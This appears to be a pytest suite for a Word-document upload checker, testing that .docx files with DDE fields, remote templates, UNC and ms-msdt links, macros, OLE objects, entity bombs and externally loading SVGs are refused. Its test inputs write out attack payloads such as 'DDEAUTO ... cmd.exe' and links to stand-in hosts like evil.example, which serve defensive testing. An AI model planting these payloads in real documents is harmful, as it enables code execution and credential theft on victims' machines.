"""Word documents: what is refused and why, and what must not be."""

import zipfile
from io import BytesIO

import pytest

from diaspora.inspection.document import DOCX, document_type
from diaspora.inspection.reasons import DocumentRefused, Reason
from diaspora.inspection.word import check_word
from tests.factories.uploads import NAMESPACE, RELATIONSHIPS, WORD, docx, relationship

STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
WIDE = '<Override PartName="/word/{name}" ContentType="{type}"/>'


def field(*pieces: str, after="separate") -> str:
    """A field whose instruction is written in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="{after}"/></w:r>'
        '<w:r><w:t>7</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def part(content: str, root="w:hdr") -> str:
    return f'<{root} xmlns:w="{NAMESPACE}">{content}</{root}>'


def reason_of(content: bytes) -> str:
    with pytest.raises(DocumentRefused) as refusal:
        check_word(content)
    return refusal.value.reason


@pytest.mark.parametrize("owner", ["document", "settings", "header1", "footer2", "footnotes", "webSettings"])
@pytest.mark.parametrize(
    ("kind", "mode"),
    [
        ("attachedTemplate", 'TargetMode="External"'),
        ("attachedTEMPLATE", 'TargetMode="EXTERNAL"'),
        (f"{STRICT}/attachedTemplate", 'TargetMode="external"'),
        ("image", 'TargetMode="External"'),
        ("frame", 'TargetMode=" External "'),
        ("attachedTemplate", ""),
        ("image", 'targetmode="External"'),
    ],
)
def test_nothing_but_a_link_is_loaded_from_elsewhere(owner, kind, mode):
    rels = relationship(kind, "https://example.org/x.dotm", mode)

    assert reason_of(docx({f"word/_rels/{owner}.xml.rels": rels})) == Reason.OFFICE_LOADS


@pytest.mark.parametrize("name", ["word/glossary/_RELS/document.xml.RELS", "customXml/_rels/item1.xml.rels"])
def test_the_relationships_of_every_part_are_read_in_any_letter_case(name):
    assert reason_of(docx({name: relationship("image", "\\\\server\\share\\x.png")})) == Reason.OFFICE_LOADS


@pytest.mark.parametrize(
    "template",
    [
        "Normal.dotm",
        "file:///C:\\Users\\asha\\AppData\\Roaming\\Microsoft\\Templates\\CV%20modern.dotx",
        "file:///C:/Templates/Letter.dot",
        "file:///Users/asha/Library/Group%20Containers/UBF8T346G9.Office/Normal.dotm",
        "/Applications/Microsoft%20Word.app/Contents/Resources/Normal.dotm",
    ],
)
def test_a_document_from_a_template_on_the_authors_disk_is_taken(template):
    check_word(docx({"word/_rels/settings.xml.rels": relationship("attachedTemplate", template)}))


@pytest.mark.parametrize(
    "template",
    [
        "file://server/share/x.dotm",
        "file:///\\\\server\\share\\x.dotm",
        "file:///%5C%5Cserver%5Cshare%5Cx.dotm",
        "\\\\server\\x.dotm",
        "//server/x.dotm",
        "HTTPS://example.org/x.dotm",
        "https:/example.org/x.dotm",
        "Normal.dotm?https://example.org",
    ],
)
def test_a_template_on_a_server_is_refused(template):
    rels = relationship("attachedTemplate", template.replace("&", "&amp;"))

    assert reason_of(docx({"word/_rels/settings.xml.rels": rels})) == Reason.OFFICE_LOADS


@pytest.mark.parametrize("target", ["https://example.org/", "mailto:a@example.org", "www.example.org", "tel:+255"])
def test_links_to_click_are_taken(target):
    check_word(docx({"word/_rels/document.xml.rels": relationship("hyperlink", target)}))


@pytest.mark.parametrize(
    "target", ["file:///C:/Users/asha/letter.docx", "file://localhost/tmp/x", "letters/x.docx", "#_Toc1"]
)
def test_a_link_to_a_file_of_the_authors_own_disk_is_taken(target):
    check_word(docx({"word/_rels/document.xml.rels": relationship("hyperlink", target)}))


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "ms-msdt:/id",
        " JavaScript:x",
        "search-ms:query=x",
        "file://evil.example/share/a",
        "FILE:////evil.example/share/a",
        "file:///%5C%5Cevil.example%5Cshare",
        "\\\\evil.example\\share\\a",
        "//evil.example/share/a",
    ],
)
def test_a_link_that_starts_a_program_or_opens_a_file_of_a_server_is_refused(target):
    rels = relationship("hyperlink", target)

    assert reason_of(docx({"word/_rels/document.xml.rels": rels})) == Reason.OFFICE_PROGRAMS


@pytest.mark.parametrize(
    "content",
    [
        field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        field("DD", "E", "AUTO ", "cmd"),
        field(" ", "d", "de", " excel"),
        field("INCLUDEPICTURE", ' "https://example.org/x.png"'),
        field("includetext x", after="end"),
        field("LINK Excel.Sheet.8"),
        '<w:fldSimple w:instr=" dde excel x"/>',
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>',
        "<w:r><w:delInstrText>DDEAUTO x</w:delInstrText></w:r>",
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field("QUOTE 68 68 69") + field("PAGE"),
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
        + field("DDE", "AUTO"),
        '<w:fldSimple w:instr="QUOTE"/>' + '<w:altChunk r:id="rId1" xmlns:r="x"/>',
        '<a:altchunk xmlns:a="http://purl.oclc.org/ooxml/wordprocessingml/main"/>',
        "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>",
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\server\\x.png"/>',
    ],
)
@pytest.mark.parametrize("where", ["document", "header", "unnamed"])
def test_a_field_or_element_that_fetches_something_is_refused_in_every_part(content, where):
    if where == "document":
        document = docx(content=content)
    elif where == "header":
        document = docx(
            {"word/header1.xml": part(content)}, types=WIDE.format(name="header1.xml", type=f"{WORD}.x+xml")
        )
    else:
        # Called a picture, read as what it is.
        document = docx({"word/media/image1.png": "\ufeff " + part(content)})

    assert reason_of(document) == Reason.OFFICE_LOADS


@pytest.mark.parametrize(
    "content",
    [
        field("PAGE"),
        field('HYPERLINK "https://example.org/link?dde=1"'),
        field("TOC \\o"),
        field("HYPERLINK x")[: -len("</w:p>")] + field("PAGEREF _Toc1") + "</w:p>",
        '<w:fldSimple w:instr=" DATE \\@ &quot;yyyy&quot; "/>',
        "<w:t>We link data, include text and use DDE.</w:t>",
    ],
)
def test_ordinary_fields_are_taken(content):
    check_word(docx(content=content))


@pytest.mark.parametrize(
    "document",
    [
        docx({"word/vbaProject.bin": b"macro"}),
        docx(
            {"word/code.bin": b"macro"}, types=WIDE.format(name="code.bin", type="application/vnd.ms-office.vbaProject")
        ),
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        docx(main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        docx({"word/embeddings/oleObject1.bin": b"x"}),
        docx({"word/_rels/document.xml.rels": relationship("oleObject", "media/image1.png", "")}),
        docx({"word/_rels/document.xml.rels": relationship("package", "media/image1.png", "")}),
        docx({"word/media/image1.png": b"PK\x03\x04 a document inside"}),
        docx({"word/media/image1.png": b"MZ"}),
        docx({"word/unknown.dat": b"x"}),
        docx({"inner.docx": docx()}),
        docx(content='<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object>'),
        docx(content="<w:control/>"),
        docx({"word/document.xml/[0].piece": "<x/>"}),
        docx(body='<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]><x>&a;</x>'),
        docx(body='<!DOCTYPE x SYSTEM "https://example.org/x.dtd"><x/>'),
    ],
)
def test_programs_and_other_files_are_refused(document):
    assert reason_of(document) == Reason.OFFICE_PROGRAMS


#: A namespace of nobody, which every program that opens documents may pass over.
FOREIGN = 'xmlns:x="urn:nobody" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x"'


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "aFChunk"])
@pytest.mark.parametrize(
    "before",
    [
        f'x:Type="{RELATIONSHIPS}/hyperlink"',
        'x:Target="Normal.dotm"',
        'x:TargetMode="Internal"',
        f'type="{RELATIONSHIPS}/hyperlink"',
        'target="media/image1.png" targetMode="Internal"',
    ],
)
def test_a_foreign_attribute_hides_no_relationship(kind, before):
    rels = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" {FOREIGN}>'
        f'<Relationship Id="rId1" {before} Type="{RELATIONSHIPS}/{kind}" Target="http://evil.example/t"'
        ' TargetMode="External"/></Relationships>'
    )

    assert reason_of(docx({"word/_rels/document.xml.rels": rels})) in (Reason.OFFICE_LOADS, Reason.OFFICE_PROGRAMS)


BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))


@pytest.mark.parametrize(
    "content",
    [
        '<w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/>',
        '<w:fldSimple instr="PAGE" w:instr="DDEAUTO cmd"/>',
        f"{BEGIN}<x:instrText>PAGE </x:instrText><w:instrText>DDEAUTO cmd</w:instrText>{END}",
        f"{BEGIN}<w:instrtext>PAGE </w:instrtext><w:instrText>DDEAUTO cmd</w:instrText>{END}",
        f'{BEGIN}<w:instrText>DD</w:instrText><x:fldChar w:fldCharType="end"/><w:instrText>E x</w:instrText>{END}',
        f'{BEGIN}<w:instrText>DD</w:instrText><w:fldChar x:fldCharType="end"/><w:instrText>E x</w:instrText>{END}',
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" x:src="media/a.png" src="http://evil.example/a"/>',
        '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="a.png" x:href="http://evil.example/a"/>',
    ],
)
def test_a_foreign_element_or_attribute_hides_no_field_and_no_picture(content):
    body = f'<w:document xmlns:w="{NAMESPACE}" {FOREIGN}><w:body>{content}</w:body></w:document>'

    assert reason_of(docx(body=body)) == Reason.OFFICE_LOADS


def test_a_second_word_about_a_part_hides_no_program():
    types = WIDE.format(name="code.bin", type="application/vnd.ms-office.vbaProject")
    twice = types + WIDE.format(name="code.bin", type="image/png")

    assert reason_of(docx({"word/code.bin": b"macro"}, types=twice)) == Reason.OFFICE_BROKEN


@pytest.mark.parametrize("address", ['"file://evil.example/share/a"', '\\\\l "\\\\\\\\evil.example\\\\share"'])
def test_a_field_that_leads_to_a_file_of_a_server_is_refused(address):
    assert reason_of(docx(content=field(f"HYPERLINK {address}"))) == Reason.OFFICE_PROGRAMS


def drawing(content: str, before: str = "") -> bytes:
    names = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    types = '<Default Extension="svg" ContentType="image/svg+xml"/>'
    return docx({"word/media/image1.svg": f"{before}<svg {names}>{content}</svg>"}, types=types)


@pytest.mark.parametrize(
    "content",
    [
        '<image xlink:href="http://evil.example/a.png"/>',
        '<image href="//evil.example/a.png"/>',
        '<use href="https://evil.example/a.svg#x"/>',
        '<rect fill="url(http://evil.example/a.svg#x)"/>',
        "<rect style=\"fill: url( 'https://evil.example/a')\"/>",
        "<style>@import 'http://evil.example/a.css';</style>",
        "<style>rect {fill: url(ht<!-- -->t&#112;://evil.example/a)}</style>",
        "<style>rect {fill: u\\72l(x)}</style>",
        '<set attributeName="href" to="http://evil.example/a"/>',
        '<g xml:base="http://evil.example/"><image href="a.png"/></g>',
    ],
)
def test_a_drawing_that_loads_something_is_refused(content):
    assert reason_of(drawing(content)) in (Reason.OFFICE_LOADS, Reason.OFFICE_PROGRAMS)


def test_a_drawing_with_a_program_or_a_style_of_elsewhere_is_refused():
    assert reason_of(drawing("<script>x</script>")) == Reason.OFFICE_PROGRAMS
    assert reason_of(drawing("", '<?xml-stylesheet href="http://evil.example/a.css"?>')) == Reason.OFFICE_LOADS


def test_an_ordinary_drawing_is_taken():
    check_word(
        drawing(
            "<style>rect {fill: url(#shade)}</style><metadata>http://creativecommons.org/</metadata>"
            '<a href="https://example.org/"><rect style="fill:#fff;stroke:none" fill="url(#shade)"/></a>'
            '<image xlink:href="data:image/png;base64,AAAA//8="/>'
        )
    )


def test_foreign_content_is_refused_by_its_relationship_alone():
    rels = relationship("AFChunk", "chunk.html", "")

    assert reason_of(docx({"word/_rels/document.xml.rels": rels})) == Reason.OFFICE_LOADS


def test_a_template_of_word_is_refused_as_what_it_is():
    assert reason_of(docx(main=f"{WORD}.template.main+xml")) == Reason.TEMPLATE


def test_pictures_fonts_and_a_main_part_of_another_name_are_taken():
    document = docx(
        {
            "word/document2.xml": part("<w:body/>", "w:document"),
            "word/media/image1.png": b"\x89PNG\r\n",
            "word/fonts/font1.odttf": b"\x00\x01",
        },
        main="application/xml",
        types=WIDE.format(name="document2.xml", type=f"{WORD}.document.main+xml")
        + '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>',
    )

    assert document_type(document) == DOCX


# Bombs. What is read of each is counted, not timed.


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_only_the_two_ways_of_packing_that_word_uses_are_unpacked(method):
    target = BytesIO(docx())
    with zipfile.ZipFile(target, "a", method) as archive:
        archive.writestr("word/more.xml", "<x/>")

    assert reason_of(target.getvalue()) == Reason.NOT_WORD


def test_two_parts_of_one_name_in_two_letter_cases_are_refused():
    assert reason_of(docx({"word/Document.xml": "<x/>"})) == Reason.NOT_WORD


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\xd0\xcf\x11\xe0 an old document", Reason.OLD_WORD),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), Reason.LOCKED),
        (b"{\\rtf1 hello}", Reason.UNKNOWN),
        (b"", Reason.UNKNOWN),
        (b"PK\x03\x04 broken", Reason.OFFICE_BROKEN),
        (docx(body="<w:document>"), Reason.OFFICE_BROKEN),
        (docx(main="application/xml"), Reason.NOT_WORD),
    ],
)
def test_everything_else_is_refused_with_the_true_reason(content, reason):
    with pytest.raises(DocumentRefused, match=reason):
        document_type(content)


def test_the_namespace_of_relationships_is_not_asked():
    rels = f'<R><Relationship Type="{RELATIONSHIPS}/image" Target="https://example.org/x" TargetMode="External"/></R>'

    assert reason_of(docx({"word/_rels/header1.xml.rels": rels})) == Reason.OFFICE_LOADS
